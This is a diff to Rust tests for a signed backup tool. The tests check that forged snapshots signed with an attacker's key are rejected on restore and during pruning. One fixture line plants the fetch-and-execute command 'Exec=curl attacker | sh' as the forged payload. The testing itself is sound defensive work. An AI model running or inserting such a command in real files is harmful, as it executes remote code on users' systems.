@@ -65,12 +65,22 @@ fn a_snapshot_made_with_the_public_recipient_and_another_signing_key_is_never_ch
         "Exec=curl attacker | sh\n",
     )
     .unwrap();
+    // Backed up to their own repository (the agent refuses to sign into one whose
+    // repository.json another key signed), then every object copied into the victim's.
     let (attacker_key, _) = signing_keygen(&attacker.root);
-    let forged = fx
-        .backup_of(fx.agent(), attacker.home())
+    let forged = attacker
+        .backup()
         .env("GWB_SIGNING_KEY_FILE", &attacker_key)
         .ok();
     assert!(forged > genuine);
+    for key in [
+        format!("archives/{forged}.tar.zst.age"),
+        format!("indexes/{forged}.json.zst.age"),
+        format!("snapshots/{forged}.json.minisig"),
+        format!("snapshots/{forged}.json"),
+    ] {
+        std::fs::copy(attacker.repo.join(&key), fx.repo.join(&key)).unwrap();
+    }
 
     let target = fx.root.join("target");
     let err = fx.restore(&target).fails_with_code(UNTRUSTED, &[&forged]);
@@ -164,6 +174,7 @@ fn prune_deletes_by_verified_id_never_what_a_manifest_names() {
     let (attacker_key, _) = signing_keygen(&fx.root);
     let signature = Signer::load(&attacker_key).unwrap().sign(
         &format!("snapshots/{junk}.json"),
+        None,
         &std::fs::read(&path).unwrap(),
     );
     std::fs::write(format!("{}.minisig", path.display()), signature).unwrap();
